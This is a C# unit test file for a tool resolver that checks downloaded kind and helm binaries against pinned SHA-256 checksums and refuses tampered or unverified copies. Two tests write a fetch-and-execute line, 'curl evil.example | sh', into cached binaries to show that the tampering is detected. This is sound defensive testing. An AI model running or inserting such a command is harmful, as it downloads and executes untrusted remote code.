using System.Formats.Tar;
using System.IO.Compression;
using System.Net;
using System.Security.Cryptography;
using System.Text;
using InferenceBox.Platform.Tools;

namespace InferenceBox.Specs.Tests.Provisioning;

public sealed class ToolResolverTests : IDisposable
{
    private readonly string _dir = Directory.CreateTempSubdirectory("ibx-tools-").FullName;
    private readonly FakeHandler _handler = new();
    private static readonly byte[] KindBinary = Encoding.ASCII.GetBytes("#!/bin/sh\necho kind v0.29.0\n");

    private ToolResolver Resolver(string? searchPath = "") =>
        new(Path.Combine(_dir, "cache"), new HttpClient(_handler), TimeSpan.FromSeconds(5), "linux-amd64", searchPath);

    private static ToolPin Kind(string? sha) => new("kind", "v0.29.0", "https://kind.sigs.k8s.io/dl/{version}/kind-{os}-{arch}",
        sha is null ? new Dictionary<string, string>() : new Dictionary<string, string> { ["linux-amd64"] = sha });

    private static string Sha(byte[] bytes) => Convert.ToHexStringLower(SHA256.HashData(bytes));

    [Fact]
    public async Task A_verified_download_is_installed_once_and_the_cache_is_reused()
    {
        _handler.Body = KindBinary;
        var resolver = Resolver();

        var first = await resolver.ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);
        var second = await resolver.ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);

        first.Should().Be(Path.Combine(_dir, "cache", "kind", "v0.29.0", "kind")).And.Be(second);
        File.ReadAllBytes(first).Should().Equal(KindBinary);
        _handler.Requests.Should().Equal("https://kind.sigs.k8s.io/dl/v0.29.0/kind-linux-amd64");
        if (!OperatingSystem.IsWindows()) File.GetUnixFileMode(first).Should().HaveFlag(UnixFileMode.UserExecute);
    }

    [Fact]
    public async Task A_tampered_download_is_refused_and_deleted()
    {
        _handler.Body = Encoding.ASCII.GetBytes("evil");

        var act = () => Resolver().ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);

        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage($"*SHA-256 {Sha(_handler.Body)}*lock expects {Sha(KindBinary)}*deleted*");
        Directory.EnumerateFiles(Path.Combine(_dir, "cache"), "*", SearchOption.AllDirectories).Should().BeEmpty();
    }

    [Fact]
    public async Task A_lock_without_a_checksum_for_this_platform_is_refused_before_downloading()
    {
        var act = () => Resolver().ResolveAsync(Kind(null), CancellationToken.None);

        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage("*no tools.kind.sha256.linux-amd64*neither a download nor a kind on PATH can be verified*");
        _handler.Requests.Should().BeEmpty();
    }

    [Fact]
    public async Task Offline_gives_a_clear_error()
    {
        _handler.Offline = true;

        var act = () => Resolver().ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);

        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage("*could not download https://kind.sigs.k8s.io/*offline?*");
    }

    [Fact]
    public async Task The_PATH_copy_is_used_when_its_bytes_are_the_pinned_binary()
    {
        var bin = Directory.CreateDirectory(Path.Combine(_dir, "bin")).FullName;
        File.WriteAllBytes(Path.Combine(bin, "kind"), KindBinary);

        (await Resolver(bin).ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None)).Should().Be(Path.Combine(bin, "kind"));
        _handler.Requests.Should().BeEmpty();
    }

    // Issue 19 item 12: a version string is a claim, the bytes are the fact.
    [Fact]
    public async Task A_PATH_copy_that_reports_the_pinned_version_but_is_not_the_pinned_binary_is_not_used()
    {
        var bin = Directory.CreateDirectory(Path.Combine(_dir, "bin")).FullName;
        // It would say "kind v0.29.0", the pinned version, if asked; it is not the pinned binary.
        File.WriteAllText(Path.Combine(bin, "kind"), "#!/bin/sh\necho kind v0.29.0 # and something else\n");
        _handler.Body = KindBinary;

        var path = await Resolver(bin).ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);

        path.Should().Be(Path.Combine(_dir, "cache", "kind", "v0.29.0", "kind"));
        File.ReadAllBytes(path).Should().Equal(KindBinary);
    }

    [Fact]
    public async Task A_cached_binary_changed_after_it_was_verified_is_refused()
    {
        _handler.Body = KindBinary;
        var cached = await Resolver().ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);
        File.WriteAllText(cached, "#!/bin/sh\necho kind v0.29.0\ncurl evil.example | sh\n");

        var act = () => Resolver().ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);

        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage($"*{cached}*SHA-256*{Sha(KindBinary)}*");
    }

    [Fact]
    public async Task A_tar_gz_release_is_verified_then_its_binary_extracted()
    {
        _handler.Body = HelmArchive("#!/bin/sh\necho v3.18.3\n");
        var pin = new ToolPin("helm", "v3.18.3", "https://get.helm.sh/helm-{version}-{os}-{arch}.tar.gz",
            new Dictionary<string, string> { ["linux-amd64"] = Sha(_handler.Body) });

        var path = await Resolver().ResolveAsync(pin, CancellationToken.None);

        File.ReadAllText(path).Should().Contain("v3.18.3");
        _handler.Requests.Should().Equal("https://get.helm.sh/helm-v3.18.3-linux-amd64.tar.gz");
    }

    [Fact]
    public async Task A_helm_on_PATH_is_used_only_once_it_equals_the_binary_of_the_verified_tarball()
    {
        var (pin, archive) = Helm("#!/bin/sh\necho v3.18.3\n");
        var bin = Directory.CreateDirectory(Path.Combine(_dir, "bin")).FullName;
        File.WriteAllText(Path.Combine(bin, "helm"), "#!/bin/sh\necho v3.18.3\n");
        _handler.Body = archive;

        var first = await Resolver(bin).ResolveAsync(pin, CancellationToken.None);
        var second = await Resolver(bin).ResolveAsync(pin, CancellationToken.None);

        first.Should().StartWith(Path.Combine(_dir, "cache"), "with no verified tarball yet, the PATH copy cannot be checked");
        second.Should().Be(Path.Combine(bin, "helm"), "now it can: its bytes are the tarball's helm");
        File.WriteAllText(Path.Combine(bin, "helm"), "#!/bin/sh\necho v3.18.3 # patched\n");
        (await Resolver(bin).ResolveAsync(pin, CancellationToken.None)).Should().Be(first);
        _handler.Requests.Should().HaveCount(1);
    }

    [Fact]
    public async Task A_cached_helm_that_is_no_longer_the_binary_of_its_verified_tarball_is_refused()
    {
        var (pin, archive) = Helm("#!/bin/sh\necho v3.18.3\n");
        _handler.Body = archive;
        var cached = await Resolver().ResolveAsync(pin, CancellationToken.None);
        File.AppendAllText(cached, "curl evil.example | sh\n");

        var act = () => Resolver().ResolveAsync(pin, CancellationToken.None);

        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage($"*{cached} has SHA-256*changed after it was verified*");
    }

    private static (ToolPin Pin, byte[] Archive) Helm(string content)
    {
        var archive = HelmArchive(content);
        return (new ToolPin("helm", "v3.18.3", "https://get.helm.sh/helm-{version}-{os}-{arch}.tar.gz",
            new Dictionary<string, string> { ["linux-amd64"] = Sha(archive) }), archive);
    }

    private static byte[] HelmArchive(string content)
    {
        using var buffer = new MemoryStream();
        using (var gz = new GZipStream(buffer, CompressionLevel.Fastest, leaveOpen: true))
        using (var tar = new TarWriter(gz))
        {
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "linux-amd64/README.md") { DataStream = new MemoryStream("x"u8.ToArray()) });
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "linux-amd64/helm") { DataStream = new MemoryStream(Encoding.ASCII.GetBytes(content)) });
        }
        return buffer.ToArray();
    }

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    private sealed class FakeHandler : HttpMessageHandler
    {
        public byte[] Body { get; set; } = [];
        public bool Offline { get; set; }
        public List<string> Requests { get; } = [];

        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken ct)
        {
            if (Offline) throw new HttpRequestException("Name or service not known (kind.sigs.k8s.io:443)");
            Requests.Add(request.RequestUri!.ToString());
            return Task.FromResult(new HttpResponseMessage(HttpStatusCode.OK) { Content = new ByteArrayContent(Body) });
        }
    }
}
